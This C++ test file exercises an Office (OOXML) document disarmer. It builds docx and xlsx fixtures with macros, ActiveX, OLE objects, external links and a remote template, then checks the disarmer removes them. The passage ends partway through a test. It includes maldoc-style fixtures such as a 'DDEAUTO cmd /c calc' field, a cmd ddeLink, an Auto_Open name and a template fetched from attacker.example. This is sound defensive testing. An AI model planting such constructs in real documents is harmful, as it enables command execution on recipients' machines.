// The OOXML disarmer (ooxml.cc, docs/sanitize/ooxml.md). Fixtures are Office packages built
// here with libzip: a minimal document with the text "Benign text 123", and the active content
// each test adds (a VBA project, an Excel 4.0 macro sheet, ActiveX, OLE objects, external links,
// a remote template, DDE fields). Every disarmed output is re-opened with libzip and libxml2:
// the active parts and every relationship to them are gone, no relationship or r:id dangles,
// the content types match the parts, and the text is still there. LibreOffice (Debian's
// soffice) opens a disarmed document with its text intact (G-6.5-C12).
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <libxml/parser.h>
#include <libxml/tree.h>
#include <zip.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "sanitize/internal/disarm.h"
#include "sanitize/internal/types.h"
#include "sanitize/sanitize.h"
#include "testing/status_matchers.h"
#include "testing/temp_dir.h"

namespace hokan::sanitize_internal {
namespace {

using ::hokan::testing::StatusIs;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using Action = SanitizeFinding::Action;

constexpr std::string_view kBenign = "Benign text 123";
constexpr std::string_view kRel =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
constexpr std::string_view kMsRel = "http://schemas.microsoft.com/office/2006/relationships/";
constexpr std::string_view kDocxType =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
constexpr std::string_view kDocmType = "application/vnd.ms-word.document.macroEnabled.main+xml";
constexpr std::string_view kXlsxType =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
constexpr std::string_view kXlsmType = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
constexpr std::string_view kWorksheetType =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
constexpr std::string_view kXmlDecl = R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)";
constexpr std::string_view kWordNs =
    R"(xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" )"
    R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" )"
    R"(xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office")";
constexpr std::string_view kSheetNs =
    R"(xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" )"
    R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" )"
    R"(xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006")";

using Files = std::vector<std::pair<std::string, std::string>>;

// ---- zip in and out, with libzip directly (not the code under test) ----

Bytes MakeZip(const Files& files) {
  zip_error_t error;
  zip_error_init(&error);
  zip_source_t* source = zip_source_buffer_create(nullptr, 0, 0, &error);
  zip_source_keep(source);
  zip_t* zip = zip_open_from_source(source, ZIP_TRUNCATE, &error);
  EXPECT_NE(zip, nullptr);
  for (const auto& [name, data] : files) {
    zip_source_t* entry = zip_source_buffer(zip, data.data(), data.size(), 0);
    EXPECT_GE(zip_file_add(zip, name.c_str(), entry, ZIP_FL_ENC_UTF_8), 0) << name;
  }
  EXPECT_EQ(zip_close(zip), 0);
  zip_stat_t st;
  zip_stat_init(&st);
  zip_source_stat(source, &st);
  Bytes out(st.size);
  zip_source_open(source);
  zip_source_read(source, out.data(), out.size());
  zip_source_close(source);
  zip_source_free(source);
  return out;
}

// The entries of a zip in order; fails the test when it does not open or read cleanly.
Files Unzip(const Bytes& bytes) {
  Files files;
  zip_error_t error;
  zip_error_init(&error);
  zip_source_t* source = zip_source_buffer_create(bytes.data(), bytes.size(), 0, &error);
  zip_t* zip = zip_open_from_source(source, ZIP_RDONLY | ZIP_CHECKCONS, &error);
  if (zip == nullptr) {
    ADD_FAILURE() << "output does not open as a zip: " << zip_error_strerror(&error);
    zip_source_free(source);
    return files;
  }
  for (zip_int64_t i = 0; i < zip_get_num_entries(zip, 0); ++i) {
    zip_stat_t st;
    zip_stat_index(zip, static_cast<zip_uint64_t>(i), 0, &st);
    std::string data(st.size, '\0');
    zip_file_t* file = zip_fopen_index(zip, static_cast<zip_uint64_t>(i), 0);
    EXPECT_NE(file, nullptr);
    if (file == nullptr) continue;
    EXPECT_EQ(zip_fread(file, data.data(), data.size()), static_cast<zip_int64_t>(data.size()));
    zip_fclose(file);
    files.emplace_back(st.name, std::move(data));
  }
  zip_discard(zip);
  return files;
}

std::optional<std::string> FileIn(const Files& files, std::string_view name) {
  for (const auto& [n, data] : files) {
    if (n == name) return data;
  }
  return std::nullopt;
}

std::set<std::string> Names(const Files& files) {
  std::set<std::string> names;
  for (const auto& file : files) names.insert(file.first);
  return names;
}

// ---- Office packages ----

class PackageBuilder {
 public:
  // A part; a non-empty content type becomes an Override.
  PackageBuilder& Part(const std::string& name, std::string content,
                       std::string content_type = "") {
    parts_.emplace_back(name, std::move(content));
    if (!content_type.empty()) overrides_.emplace_back("/" + name, std::move(content_type));
    return *this;
  }
  PackageBuilder& Default(std::string ext, std::string content_type) {
    defaults_.emplace_back(std::move(ext), std::move(content_type));
    return *this;
  }
  // A relationship of `source` ("" for the package itself).
  PackageBuilder& Rel(const std::string& source, const std::string& id, const std::string& type,
                      const std::string& target, bool external = false) {
    std::string& xml = rels_[source];
    xml.append("<Relationship Id=\"").append(id).append("\" Type=\"").append(type);
    xml.append("\" Target=\"").append(target).append("\"");
    xml.append(external ? " TargetMode=\"External\"/>" : "/>");
    return *this;
  }
  Bytes Build() const { return MakeZip(Entries()); }
  Files Entries() const {
    std::string types = std::string(kXmlDecl) +
                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                        "content-types\"><Default Extension=\"rels\" ContentType=\"application/"
                        "vnd.openxmlformats-package.relationships+xml\"/><Default "
                        "Extension=\"xml\" ContentType=\"application/xml\"/>";
    for (const auto& [ext, type] : defaults_) {
      types.append("<Default Extension=\"").append(ext).append("\" ContentType=\"");
      types.append(type).append("\"/>");
    }
    for (const auto& [name, type] : overrides_) {
      types.append("<Override PartName=\"").append(name).append("\" ContentType=\"");
      types.append(type).append("\"/>");
    }
    types += "</Types>";
    Files files = {{"[Content_Types].xml", types}};
    files.insert(files.end(), parts_.begin(), parts_.end());
    for (const auto& [source, rels] : rels_) {
      const std::size_t slash = source.find_last_of('/');
      const std::string dir = slash == std::string::npos ? "" : source.substr(0, slash + 1);
      const std::string file = slash == std::string::npos ? source : source.substr(slash + 1);
      std::string path = dir;
      path.append("_rels/").append(file).append(".rels");
      std::string xml(kXmlDecl);
      xml.append(R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/)")
          .append(R"(relationships">)")
          .append(rels)
          .append("</Relationships>");
      files.emplace_back(std::move(path), std::move(xml));
    }
    return files;
  }

 private:
  Files parts_;
  std::vector<std::pair<std::string, std::string>> defaults_;
  std::vector<std::pair<std::string, std::string>> overrides_;
  std::map<std::string, std::string> rels_;
};

std::string WordDocument(std::string_view extra) {
  return std::string(kXmlDecl) + "<w:document " + std::string(kWordNs) +
         "><w:body><w:p><w:r><w:t>" + std::string(kBenign) + "</w:t></w:r></w:p>" +
         std::string(extra) + "<w:sectPr/></w:body></w:document>";
}

// A docx (or, with `macro_type`, a docm's content type) whose body ends with `extra`.
PackageBuilder Docx(std::string_view extra = "", std::string_view main_type = kDocxType) {
  PackageBuilder b;
  b.Part("word/document.xml", WordDocument(extra), std::string(main_type))
      .Part("word/styles.xml", std::string(kXmlDecl) + "<w:styles " + std::string(kWordNs) + "/>",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml")
      .Rel("", "rId1", std::string(kRel) + "officeDocument", "word/document.xml")
      .Rel("word/document.xml", "rId1", std::string(kRel) + "styles", "styles.xml");
  return b;
}

PackageBuilder Docm() {
  PackageBuilder b = Docx("", kDocmType);
  b.Default("bin", "application/vnd.ms-office.vbaProject")
      .Part("word/vbaProject.bin", "\xD0\xCF\x11\xE0 not really a VBA project: Sub AutoOpen()")
      .Part("word/vbaData.xml",
            std::string(kXmlDecl) +
                "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/"
                "wordml\"/>",
            "application/vnd.ms-word.vbaData+xml")
      .Rel("word/document.xml", "rId9", std::string(kMsRel) + "vbaProject", "vbaProject.bin")
      .Rel("word/vbaProject.bin", "rId1", std::string(kMsRel) + "wordVbaData", "vbaData.xml");
  return b;
}

std::string SheetXml(std::string_view cells, std::string_view after_data = "") {
  return std::string(kXmlDecl) + "<worksheet " + std::string(kSheetNs) +
         "><sheetData><row r=\"1\">" + "<c r=\"A1\" t=\"inlineStr\"><is><t>" +
         std::string(kBenign) + "</t></is></c>" + std::string(cells) + "</row></sheetData>" +
         std::string(after_data) + "</worksheet>";
}

// An xlsx (or xlsm content type) with Sheet1 and whatever `workbook_sheets` adds to <sheets>.
PackageBuilder Xlsx(std::string_view main_type = kXlsxType, std::string_view more_sheets = "",
                    std::string_view workbook_tail = "", std::string_view sheet1 = "") {
  PackageBuilder b;
  b.Part("xl/workbook.xml",
         std::string(kXmlDecl) + "<workbook " + std::string(kSheetNs) +
             "><bookViews><workbookView activeTab=\"1\"/></bookViews><sheets><sheet "
             "name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>" +
             std::string(more_sheets) + "</sheets>" + std::string(workbook_tail) + "</workbook>",
         std::string(main_type))
      .Part("xl/worksheets/sheet1.xml", sheet1.empty() ? SheetXml("") : std::string(sheet1),
            std::string(kWorksheetType))
      .Rel("", "rId1", std::string(kRel) + "officeDocument", "xl/workbook.xml")
      .Rel("xl/workbook.xml", "rId1", std::string(kRel) + "worksheet", "worksheets/sheet1.xml");
  return b;
}

// ---- reading what came out ----

struct XmlDocDeleter {
  void operator()(xmlDoc* doc) const { xmlFreeDoc(doc); }
};
using XmlDoc = std::unique_ptr<xmlDoc, XmlDocDeleter>;

XmlDoc Parse(const std::string& text) {
  return XmlDoc(xmlReadMemory(text.data(), static_cast<int>(text.size()), nullptr, nullptr,
                              XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING));
}

template <typename F>
void Walk(xmlNode* node, const F& f) {
  for (; node != nullptr; node = node->next) {
    if (node->type != XML_ELEMENT_NODE) continue;
    f(node);
    Walk(node->children, f);
  }
}

std::string Prop(xmlNode* node, const char* name) {
  xmlChar* value = xmlGetProp(node, reinterpret_cast<const xmlChar*>(name));
  std::string out = value != nullptr ? reinterpret_cast<const char*>(value) : "";
  xmlFree(value);
  return out;
}

std::string Lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string Resolve(const std::string& source, const std::string& target) {
  std::string joined = target.starts_with("/")
                           ? target.substr(1)
                           : source.substr(0, source.find_last_of('/') + 1) + target;
  std::vector<std::string> parts;
  std::stringstream ss(joined);
  for (std::string seg; std::getline(ss, seg, '/');) {
    if (seg == "..") {
      if (!parts.empty()) parts.pop_back();
    } else if (!seg.empty() && seg != ".") {
      parts.push_back(seg);
    }
  }
  std::string out;
  for (const std::string& p : parts) out += (out.empty() ? "" : "/") + p;
  return out;
}

// The package is one Office would open: [Content_Types].xml first and covering every part,
// no override for a part that is gone, every internal relationship pointing at a part, and every
// relationship id used in a part's XML defined in its .rels.
void ExpectConsistentPackage(const Files& files) {
  ASSERT_FALSE(files.empty());
  EXPECT_EQ(files.front().first, "[Content_Types].xml");
  std::set<std::string> names;
  for (const auto& file : files) names.insert(Lower(file.first));
  XmlDoc types = Parse(files.front().second);
  ASSERT_NE(types, nullptr);
  std::set<std::string> defaults;
  std::set<std::string> overrides;
  Walk(xmlDocGetRootElement(types.get()), [&](xmlNode* node) {
    const std::string name = reinterpret_cast<const char*>(node->name);
    if (name == "Default") defaults.insert(Lower(Prop(node, "Extension")));
    if (name == "Override") overrides.insert(Lower(Prop(node, "PartName").substr(1)));
  });
  for (const std::string& o : overrides) EXPECT_TRUE(names.count(o) != 0) << "override for " << o;
  for (const auto& [name, data] : files) {
    if (name == "[Content_Types].xml" || name.ends_with("/")) continue;
    const std::string ext = Lower(name.substr(name.find_last_of('.') + 1));
    EXPECT_TRUE(overrides.count(Lower(name)) != 0 || defaults.count(ext) != 0)
        << name << " has no content type";
  }
  for (const auto& file : files) {
    const std::string& name = file.first;
    const std::string& data = file.second;
    if (!name.ends_with(".rels")) continue;
    const std::size_t at = name.rfind("_rels/");
    const std::string source = name.substr(0, at) + name.substr(at + 6, name.size() - at - 6 - 5);
    XmlDoc rels = Parse(data);
    ASSERT_NE(rels, nullptr) << name;
    std::set<std::string> ids;
    Walk(xmlDocGetRootElement(rels.get()), [&](xmlNode* node) {
      if (std::string_view(reinterpret_cast<const char*>(node->name)) != "Relationship") return;
      ids.insert(Prop(node, "Id"));
      if (Prop(node, "TargetMode") == "External") return;
      EXPECT_TRUE(names.count(Lower(Resolve(source, Prop(node, "Target")))) != 0)
          << name << " points at missing " << Prop(node, "Target");
    });
    const std::optional<std::string> source_xml = FileIn(files, source);
    if (!source_xml || !source.ends_with(".xml")) continue;
    XmlDoc doc = Parse(*source_xml);
    ASSERT_NE(doc, nullptr) << source;
    Walk(xmlDocGetRootElement(doc.get()), [&](xmlNode* node) {
      for (xmlAttr* attr = node->properties; attr != nullptr; attr = attr->next) {
        if (attr->ns == nullptr ||
            std::string_view(reinterpret_cast<const char*>(attr->ns->href)) !=
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships") {
          continue;
        }
        xmlChar* value = xmlNodeGetContent(reinterpret_cast<xmlNode*>(attr));
        const std::string id = reinterpret_cast<const char*>(value);
        xmlFree(value);
        EXPECT_TRUE(id.empty() || ids.count(id) != 0) << source << " uses missing " << id;
      }
    });
  }
}

SanitizeOptions Options() {
  SanitizeOptions options;
  return options;
}

struct Disarmed {
  Bytes output;
  Files files;
  std::vector<SanitizeFinding> findings;
  std::string output_type;
};

Disarmed DisarmPackage(const Bytes& in, std::string_view expected_type) {
  const std::optional<DetectedType> type = DetectZipType(in);
  EXPECT_TRUE(type.has_value());
  EXPECT_EQ(type ? type->name : "", expected_type);
  const SanitizeOptions options = Options();
  Context ctx(options);
  Result<Bytes> out = DisarmOoxml(in, type ? *type : MakeType(expected_type), ctx);
  EXPECT_OK(out);
  Disarmed d;
  if (!out.has_value()) return d;
  d.output = std::move(out.value());
  d.files = Unzip(d.output);
  d.findings = ctx.findings();
  d.output_type = ctx.output_type();
  ExpectConsistentPackage(d.files);
  return d;
}

MATCHER_P2(FindingIs, kind, location, "") {
  return arg.kind == kind && arg.location == location && arg.action == Action::kRemoved &&
         arg.active;
}

// ---- tests ----

TEST(OoxmlDisarmDetect, TypesComeFromTheMainPartsContentType) {
  EXPECT_EQ(DetectZipType(Docx().Build())->name, "docx");
  EXPECT_EQ(DetectZipType(Docm().Build())->name, "docm");
  EXPECT_EQ(DetectZipType(Xlsx().Build())->name, "xlsx");
  EXPECT_EQ(DetectZipType(Xlsx(kXlsmType).Build())->name, "xlsm");
  PackageBuilder pptm;
  pptm.Part("ppt/presentation.xml", std::string(kXmlDecl) + "<p:presentation xmlns:p=\"x\"/>",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
      .Rel("", "rId1", std::string(kRel) + "officeDocument", "/ppt/presentation.xml");
  EXPECT_EQ(DetectZipType(pptm.Build())->name, "pptm");
}

TEST(OoxmlDisarmDetect, OtherZipsAndNonZips) {
  EXPECT_EQ(DetectZipType(MakeZip({{"a.txt", "hello"}}))->name, "zip");
  const std::optional<DetectedType> jar =
      DetectZipType(MakeZip({{"META-INF/MANIFEST.MF", "Main-Class: A\n"}, {"A.class", "x"}}));
  ASSERT_TRUE(jar.has_value());
  EXPECT_EQ(jar->name, "jar");
  EXPECT_TRUE(jar->executable);
  EXPECT_EQ(DetectZipType(AsBytes("PK\x03\x04 but no more")), std::nullopt);
  EXPECT_EQ(DetectZipType(AsBytes("plain text")), std::nullopt);
  // An Office package whose main part hokan does not know (here xlsb) is not a plain zip.
  PackageBuilder xlsb;
  xlsb.Part("xl/workbook.bin", "binary", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")
      .Rel("", "rId1", std::string(kRel) + "officeDocument", "xl/workbook.bin");
  EXPECT_EQ(DetectZipType(xlsb.Build())->name, "ooxml");
  // A package without an Office document (XPS, NuGet) is a zip.
  PackageBuilder nuget;
  nuget.Part("a.nuspec", "<package/>")
      .Rel("", "R1", "http://schemas.microsoft.com/packaging/2010/07/manifest", "a.nuspec");
  EXPECT_EQ(DetectZipType(nuget.Build())->name, "zip");
}

TEST(OoxmlDisarm, CleanDocumentIsReturnedByteForByte) {
  const Bytes in = Docx().Build();
  const SanitizeOptions options = Options();
  Context ctx(options);
  Result<Bytes> out = DisarmOoxml(in, MakeType("docx"), ctx);
  ASSERT_OK(out);
  EXPECT_EQ(*out, in);
  EXPECT_THAT(ctx.findings(), IsEmpty());
  EXPECT_EQ(ctx.output_type(), "");
}

TEST(OoxmlDisarm, DocmLosesItsVbaProjectAndBecomesDocx) {
  const Disarmed d = DisarmPackage(Docm().Build(), "docm");
  const std::set<std::string> names = Names(d.files);
  EXPECT_EQ(names.count("word/vbaProject.bin"), 0u);
  EXPECT_EQ(names.count("word/vbaData.xml"), 0u);
  EXPECT_EQ(names.count("word/_rels/vbaProject.bin.rels"), 0u);
  EXPECT_THAT(d.findings, Contains(FindingIs("vba-project", "word/vbaProject.bin")));
  EXPECT_EQ(d.output_type, "docx");
  const std::string types = *FileIn(d.files, "[Content_Types].xml");
  EXPECT_THAT(types, HasSubstr(std::string(kDocxType)));
  EXPECT_THAT(Lower(types), Not(HasSubstr("macroenabled")));
  EXPECT_THAT(Lower(types), Not(HasSubstr("vba")));
  EXPECT_THAT(*FileIn(d.files, "word/_rels/document.xml.rels"), Not(HasSubstr("vbaProject")));
  EXPECT_THAT(*FileIn(d.files, "word/document.xml"), HasSubstr(std::string(kBenign)));
  EXPECT_EQ(DetectZipType(d.output)->name, "docx");
}

TEST(OoxmlDisarm, XlsmLosesItsMacroSheetAndWhatPointedAtIt) {
  PackageBuilder b = Xlsx(
      kXlsmType,
      R"(<sheet name="Macro1" sheetId="2" r:id="rId2"/><sheet name="Sheet3" sheetId="3" r:id="rId3"/>)",
      R"(<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>)"
      R"(<definedName name="Kept" localSheetId="2">Sheet3!$A$1</definedName>)"
      R"(<definedName name="Run">'Macro1'!$A$2</definedName></definedNames>)");
  b.Part("xl/macrosheets/sheet2.xml",
         std::string(kXmlDecl) +
             "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/"
             "excel/2006/main\"><sheetData/></xm:macrosheet>",
         "application/vnd.ms-excel.macrosheet+xml")
      .Part("xl/worksheets/sheet3.xml", SheetXml(""), std::string(kWorksheetType))
      .Part("xl/calcChain.xml", std::string(kXmlDecl) + "<calcChain xmlns=\"x\"/>",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
      .Rel("xl/workbook.xml", "rId2", std::string(kMsRel) + "xlMacrosheet",
           "macrosheets/sheet2.xml")
      .Rel("xl/workbook.xml", "rId3", std::string(kRel) + "worksheet", "worksheets/sheet3.xml")
      .Rel("xl/workbook.xml", "rId4", std::string(kRel) + "calcChain", "calcChain.xml");
  const Disarmed d = DisarmPackage(b.Build(), "xlsm");
  const std::set<std::string> names = Names(d.files);
  EXPECT_EQ(names.count("xl/macrosheets/sheet2.xml"), 0u);
  EXPECT_EQ(names.count("xl/calcChain.xml"), 0u);
  EXPECT_EQ(names.count("xl/worksheets/sheet3.xml"), 1u);
  EXPECT_THAT(d.findings, Contains(FindingIs("xlm-macro-sheet", "xl/macrosheets/sheet2.xml")));
  EXPECT_EQ(d.output_type, "xlsx");
  const std::string workbook = *FileIn(d.files, "xl/workbook.xml");
  EXPECT_THAT(workbook, Not(HasSubstr("Macro1")));
  EXPECT_THAT(workbook, Not(HasSubstr("Auto_Open")));
  EXPECT_THAT(workbook, HasSubstr("name=\"Sheet3\""));
  // Sheet3 moved from position 2 to 1; the name local to it and the active tab follow.
  EXPECT_THAT(workbook, HasSubstr("localSheetId=\"1\""));
  EXPECT_THAT(workbook, HasSubstr("activeTab=\"0\""));
  EXPECT_THAT(*FileIn(d.files, "xl/worksheets/sheet1.xml"), HasSubstr(std::string(kBenign)));
  EXPECT_THAT(Lower(*FileIn(d.files, "[Content_Types].xml")), Not(HasSubstr("macro")));
}

TEST(OoxmlDisarm, ActiveXControlsGoInWordAndExcel) {
  // Word: <w:control> inside <w:object>; its preview picture stays.
  PackageBuilder docx = Docx(
      R"(<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId5"/></v:shape>)"
      R"(<w:control r:id="rId6" w:name="CommandButton1" w:shapeid="s1"/></w:object></w:r></w:p>)");
  docx.Default("png", "image/png")
      .Part("word/media/image1.png", "\x89PNG not really")
      .Part("word/activeX/activeX1.xml",
            std::string(kXmlDecl) +
                "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/"
                "2006/activeX\" ax:classid=\"{D7053240}\"/>",
            "application/vnd.ms-office.activeX+xml")
      .Part("word/activeX/activeX1.bin", "binary control state",
            "application/vnd.ms-office.activeX")
      .Rel("word/document.xml", "rId5", std::string(kRel) + "image", "media/image1.png")
      .Rel("word/document.xml", "rId6", std::string(kRel) + "control", "activeX/activeX1.xml")
      .Rel("word/activeX/activeX1.xml", "rId1", std::string(kMsRel) + "activeXControlBinary",
           "activeX1.bin");
  const Disarmed d = DisarmPackage(docx.Build(), "docx");
  const std::set<std::string> names = Names(d.files);
  EXPECT_EQ(names.count("word/activeX/activeX1.xml"), 0u);
  EXPECT_EQ(names.count("word/activeX/activeX1.bin"), 0u);
  EXPECT_EQ(names.count("word/media/image1.png"), 1u);
  EXPECT_THAT(d.findings, Contains(FindingIs("activex", "word/activeX/activeX1.xml")));
  const std::string document = *FileIn(d.files, "word/document.xml");
  EXPECT_THAT(document, Not(HasSubstr("w:control")));
  EXPECT_THAT(document, HasSubstr("v:imagedata"));
  EXPECT_EQ(d.output_type, "");  // A docx stays a docx.

  // Excel: <controls> in alternate content; the whole list goes.
  PackageBuilder xlsx = Xlsx(
      kXlsxType, "", "",
      SheetXml("", R"(<controls><mc:AlternateContent><mc:Choice Requires="x14">)"
                   R"(<control shapeId="1025" r:id="rId2" name="CommandButton1"/></mc:Choice>)"
                   R"(<mc:Fallback><control shapeId="1025" r:id="rId2" name="CommandButton1"/>)"
                   R"(</mc:Fallback></mc:AlternateContent></controls>)"));
  xlsx.Part("xl/activeX/activeX1.xml", std::string(kXmlDecl) + "<ax:ocx xmlns:ax=\"x\"/>",
            "application/vnd.ms-office.activeX+xml")
      .Rel("xl/worksheets/sheet1.xml", "rId2", std::string(kRel) + "control",
           "../activeX/activeX1.xml");
  const Disarmed x = DisarmPackage(xlsx.Build(), "xlsx");
  const std::string sheet = *FileIn(x.files, "xl/worksheets/sheet1.xml");
  EXPECT_THAT(sheet, Not(HasSubstr("controls")));
  EXPECT_THAT(sheet, Not(HasSubstr("AlternateContent")));
  EXPECT_THAT(sheet, HasSubstr(std::string(kBenign)));
  EXPECT_EQ(Names(x.files).count("xl/activeX/activeX1.xml"), 0u);
}

TEST(OoxmlDisarm, EmbeddedOleObjectGoesItsPreviewStays) {
  PackageBuilder b = Docx(
      R"(<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId5"/></v:shape>)"
      R"(<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId7"/></w:object></w:r></w:p>)");
  b.Default("emf", "image/x-emf")
      .Part("word/media/image1.emf", "EMF preview")
      .Part("word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 Package with evil.exe",
            "application/vnd.openxmlformats-officedocument.oleObject")
      .Rel("word/document.xml", "rId5", std::string(kRel) + "image", "media/image1.emf")
      .Rel("word/document.xml", "rId7", std::string(kRel) + "oleObject",
           "embeddings/oleObject1.bin");
  const Disarmed d = DisarmPackage(b.Build(), "docx");
  EXPECT_EQ(Names(d.files).count("word/embeddings/oleObject1.bin"), 0u);
  EXPECT_EQ(Names(d.files).count("word/media/image1.emf"), 1u);
  EXPECT_THAT(d.findings, Contains(FindingIs("ole-object", "word/embeddings/oleObject1.bin")));
  const std::string document = *FileIn(d.files, "word/document.xml");
  EXPECT_THAT(document, Not(HasSubstr("OLEObject")));
  EXPECT_THAT(document, HasSubstr("v:imagedata"));
}

TEST(OoxmlDisarm, EmbeddedPackagesAreSanitisedAsFilesOfTheirOwn) {
  const Bytes clean_inner = Docx().Build();
  const Bytes dde_inner =
      Docx(R"(<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t>)"
           R"(</w:r></w:fldSimple></w:p>)")
          .Build();
  const Bytes macro_inner = Docm().Build();
  PackageBuilder b = Docx();
  b.Default("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
      .Default("docm", "application/vnd.ms-word.document.macroEnabled.12")
      .Part("word/embeddings/Clean.docx", ToString(clean_inner))
      .Part("word/embeddings/Dde.docx", ToString(dde_inner))
      .Part("word/embeddings/Macro.docm", ToString(macro_inner))
      .Rel("word/document.xml", "rId11", std::string(kRel) + "package", "embeddings/Clean.docx")
      .Rel("word/document.xml", "rId12", std::string(kRel) + "package", "embeddings/Dde.docx")
      .Rel("word/document.xml", "rId13", std::string(kRel) + "package", "embeddings/Macro.docm");
  const Disarmed d = DisarmPackage(b.Build(), "docx");
  // Clean: untouched. DDE: disarmed in place. Macro: its type would change; it goes.
  EXPECT_EQ(ToBytes(*FileIn(d.files, "word/embeddings/Clean.docx")), clean_inner)
      << "clean embedded package changed";
  const std::optional<std::string> dde = FileIn(d.files, "word/embeddings/Dde.docx");
  ASSERT_TRUE(dde.has_value());
  const Files inner = Unzip(ToBytes(*dde));
  EXPECT_THAT(*FileIn(inner, "word/document.xml"), Not(HasSubstr("DDEAUTO")));
  EXPECT_EQ(Names(d.files).count("word/embeddings/Macro.docm"), 0u);
  EXPECT_THAT(d.findings, Contains(FindingIs("ole-object", "word/embeddings/Macro.docm")));
  EXPECT_THAT(d.findings,
              Contains(FindingIs("dde-field", "word/embeddings/Dde.docx!/word/document.xml")));
  EXPECT_THAT(d.findings, Contains(FindingIs("vba-project",
                                             "word/embeddings/Macro.docm!/word/vbaProject.bin")));
}

TEST(OoxmlDisarm, ExternalWorkbookLinksGoCellsKeepTheirValues) {
  PackageBuilder b =
      Xlsx(kXlsxType, "",
           R"(<externalReferences><externalReference r:id="rId3"/></externalReferences>)"
           R"(<definedNames><definedName name="Ext">[1]Sheet1!$A$1</definedName></definedNames>)",
           SheetXml(R"(<c r="B1"><f>[1]Sheet1!A1*2</f><v>42</v></c>)"
                    R"(<c r="C1"><f>SUM(1,2)</f><v>3</v></c>)"));
  b.Part("xl/externalLinks/externalLink1.xml",
         std::string(kXmlDecl) + "<externalLink " + std::string(kSheetNs) +
             "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
      .Rel("xl/workbook.xml", "rId3", std::string(kRel) + "externalLink",
           "externalLinks/externalLink1.xml")
      .Rel("xl/externalLinks/externalLink1.xml", "rId1", std::string(kRel) + "externalLinkPath",
           "file:///\\\\server\\share\\book.xlsx", true);
  const Disarmed d = DisarmPackage(b.Build(), "xlsx");
  EXPECT_EQ(Names(d.files).count("xl/externalLinks/externalLink1.xml"), 0u);
  EXPECT_EQ(Names(d.files).count("xl/externalLinks/_rels/externalLink1.xml.rels"), 0u);
  EXPECT_THAT(d.findings, Contains(FindingIs("dde-field", "xl/externalLinks/externalLink1.xml")));
  const std::string workbook = *FileIn(d.files, "xl/workbook.xml");
  EXPECT_THAT(workbook, Not(HasSubstr("externalReference")));
  EXPECT_THAT(workbook, Not(HasSubstr("[1]")));
  const std::string sheet = *FileIn(d.files, "xl/worksheets/sheet1.xml");
  EXPECT_THAT(sheet, Not(HasSubstr("[1]")));
  EXPECT_THAT(sheet, HasSubstr("<v>42</v>"));
  EXPECT_THAT(sheet, HasSubstr("<f>SUM(1,2)</f>"));
}

TEST(OoxmlDisarm, RemoteTemplateGoes) {
  PackageBuilder b = Docx();
  b.Part("word/settings.xml",
         std::string(kXmlDecl) + "<w:settings " + std::string(kWordNs) +
             "><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"720\"/></w:settings>",
         "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")
      .Rel("word/document.xml", "rId3", std::string(kRel) + "settings", "settings.xml")
      .Rel("word/settings.xml", "rId1", std::string(kRel) + "attachedTemplate",
           "http://attacker.example/template.dotm", true);
  const Disarmed d = DisarmPackage(b.Build(), "docx");
  EXPECT_THAT(d.findings, Contains(FindingIs("remote-template", "word/_rels/settings.xml.rels")));
  EXPECT_THAT(*FileIn(d.files, "word/_rels/settings.xml.rels"), Not(HasSubstr("attacker")));
  const std::string settings = *FileIn(d.files, "word/settings.xml");
  EXPECT_THAT(settings, Not(HasSubstr("attachedTemplate")));
  EXPECT_THAT(settings, HasSubstr("defaultTabStop"));
}

TEST(OoxmlDisarm, ExternalRelationshipsOtherThanWebHyperlinksGo) {
  PackageBuilder b = Docx(
      R"(<w:p><w:hyperlink r:id="rId20"><w:r><w:t>web link text</w:t></w:r></w:hyperlink>)"
      R"(<w:hyperlink r:id="rId21"><w:r><w:t>share link text</w:t></w:r></w:hyperlink>)"
      R"(<w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId22"/></w:object></w:r></w:p>)");
